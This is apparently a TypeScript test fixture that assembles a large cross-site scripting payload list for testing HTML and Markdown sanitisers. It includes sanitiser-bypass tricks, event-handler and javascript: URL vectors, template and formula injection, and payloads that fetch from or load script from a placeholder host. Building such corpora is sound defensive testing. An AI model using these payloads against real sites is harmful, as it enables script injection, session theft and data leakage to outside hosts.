import { hostileCorpus } from "../../browser/support/hostile-corpus.ts";

/** What each tries to do: a mark on the window, a dialog, and a request to somebody's machine. */
const run = "window.hacked=1;alert(1)";
const host = "tracker.invalid";
const act = `(window.hacked=1,alert(1),fetch('//${host}/x'))`;

/** By the way in: the element or the attribute that runs something. */
const elements = [
  "script",
  "img",
  "svg",
  "math",
  "iframe",
  "object",
  "embed",
  "video",
  "audio",
  "details",
  "body",
  "input",
  "select",
  "textarea",
  "button",
  "marquee",
  "style",
  "link",
  "form",
  "dialog",
  "template",
  "noscript",
  "xmp",
  "plaintext",
] as const;

const handlers = [
  "onload",
  "onerror",
  "onfocus autofocus tabindex=1",
  "ontoggle",
  "onbegin",
  "onanimationstart style=animation:x",
  "onpointerover",
  "onbeforetoggle",
  "oncontentvisibilityautostatechange style=content-visibility:auto",
  "onscrollend",
] as const;

const byHandler = elements.flatMap((element, at) =>
  handlers
    .filter((_handler, nth) => (at + nth) % 3 === 0)
    .map((handler) => `<${element} src=x href=x open ${handler}=${act}>x</${element}>`),
);

/** Ways round sanitisers, as their histories tell them: mutation, namespaces, comments, clobbering. */
const aroundSanitisers = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  `<svg><style><img src=x onerror=${run}></style></svg>`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${run}></style></annotation-xml></math>`,
  `<svg><foreignObject><iframe srcdoc="&lt;script&gt;parent.${run}&lt;/script&gt;"></foreignObject></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text x="20" y="20">x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${run}'/></svg>#x"/>`,
  `<svg><set attributeName="onmouseover" to="${run}"/></svg>`,
  `<svg><animate xlink:href="#x" attributeName="href" values="javascript:${run}"/><a id="x"><text>x</text></a></svg>`,
  `<svg><discard onbegin=${run}></svg>`,
  `<noscript><style></noscript><img src=x onerror=${run}></style>`,
  `<noembed><noembed title="</noembed><img src onerror=${run}>">`,
  `<select><template><style><!--</style><a rel="--></style></template></select><img src onerror=${run}>">`,
  `<table><caption><svg><title><style></title><img src onerror=${run}></style></caption></table>`,
  `<!--><img src=x onerror=${run}>-->`,
  `<!--!><img src=x onerror=${run}>-->`,
  `<![CDATA[><img src=x onerror=${run}>]]>`,
  `<?xml-stylesheet href="javascript:${run}"?><img src=x onerror=${run}>`,
  `<img src=x:x onerror\u0009=${run}>`,
  `<img src=x\u000conerror=${run}>`,
  `<a href="java\u0009script:${run}">x</a>`,
  `<a href="java\u000ascript:${run}">x</a>`,
  `<a href="\u0001javascript:${run}">x</a>`,
  `<a href="javascript&#58;${run}">x</a>`,
  `<a href="javas&NewLine;cript&colon;${run}">x</a>`,
  `<base href="javascript:/a/-${act}///////">`,
  `<isindex type=image src=1 onerror=${run}>`,
  `<x/onclick=${run} style=position:fixed;inset:0>`,
  `<div data-trix-attachment='{"contentType":"text/html","content":"<img src=x onerror=${run}>"}'>x</div>`,
  `<img name=getElementById><img name=querySelector><form name=body><input name=firstChild></form>`,
  `<a id=__proto__><a id=constructor><form id=location><input name=href value=javascript:${run}>`,
  `<div is="x-tag" onload=${run}><slot name=x onslotchange=${run}></slot></div>`,
  `<template shadowrootmode=open><img src=x onerror=${run}></template>`,
  `<link rel=modulepreload href="data:text/javascript,${run}"><script type=importmap>{"imports":{"x":"data:,1"}}</script>`,
  `<meta http-equiv=Content-Security-Policy content="script-src *"><script>${run}</script>`,
  `<iframe src="javascript:parent.${run}"></iframe>`,
  `<object data="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGFja2VkPTE8L3NjcmlwdD4="></object>`,
  `<portal src="javascript:${run}"></portal>`,
  `<input type=hidden popover id=x onbeforetoggle=${run}><button popovertarget=x>x</button>`,
];

/** Out of where text may stand: attributes, styles, scripts, JSON, comments, URLs, templates, file names. */
const outOfPlaces = [
  `"><script>${run}</script>`,
  `'><img src=x onerror=${run}>`,
  `</script><script>${run}</script>`,
  `</style><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `--><script>${run}</script>`,
  `]]></script><script>${run}</script>`,
  `";${run};//`,
  `';${run};//`,
  `\\";${run};//`,
  `\`-${act}-\``,
  `\${${act}}`,
  `{{${act}}}`,
  `{{constructor.constructor("${run}")()}}`,
  `<%= ${act} %>`,
  `#{${act}}`,
  `[[${act}]]`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  `\\x3cscript\\x3e${run}\\x3c/script\\x3e`,
  `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `data:text/html,<script>${run}</script>`,
  `//${host}/script.js`,
  `expression(${act})`,
  `x;background:url(//${host}/css)`,
  `}</style><img src=x onerror=${run}><style>{`,
  `*{background:url(//${host}/css)}`,
  `"><img src=x onerror=${run}>.csv`,
  `=HYPERLINK("javascript:${run}","x")`,
  `{"key":"</script><script>${run}</script>"}`,
  `[{"__html":"<img src=x onerror=${run}>"}]`,
  `{"$$typeof":"Symbol(react.element)","type":"img","props":{"src":"x","onerror":"${run}"}}`,
  `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${run}>"}}`,
  `on\u0430error=${run}`,
  `\uff1cscript\uff1e${run}\uff1c/script\uff1e`,
  `\u2028<script>${run}</script>`,
];

/** In Markdown and formulas, as raters' texts are written. */
const inMarkdown = [
  `[x](javascript:${run})`,
  `[x](JAVASCRIPT:${run} "x")`,
  `[x](<javascript:${run}>)`,
  `[x]: javascript:${run}\n[x]`,
  `![x" onerror="${run}](x)`,
  `![x](x "x\\" onerror=\\"${run}")`,
  `<javascript:${run}>`,
  `[x](vbscript:${run})`,
  `[x](data:text/html;base64,PHNjcmlwdD4=)`,
  `\`\`\`"><img src=x onerror=${run}>\ncode\n\`\`\``,
  `| <img src=x onerror=${run}> | b |\n|-|-|`,
  `- [ ] <input onfocus=${run} autofocus>`,
  `[^"><img src=x onerror=${run}>]: x`,
  `$\\href{javascript:${run}}{x}$`,
  `$\\htmlClass{" onload="${run}}{x}$`,
  `$$\\includegraphics[alt=x]{javascript:${run}}$$`,
  `$$<img src=x onerror=${run}>$$`,
  `~~<img src=x onerror=${run}>~~`,
  `www.${host}/"onmouseover="${run}`,
  `# x <a name="x" onfocus=${run} autofocus>`,
];

/** Every payload once: over 300, of all of the classes above and of the corpus for texts. */
export const xssPayloads: readonly string[] = [
  ...new Set([
    ...aroundSanitisers,
    ...outOfPlaces,
    ...inMarkdown,
    ...byHandler,
    ...hostileCorpus(180),
  ]),
];
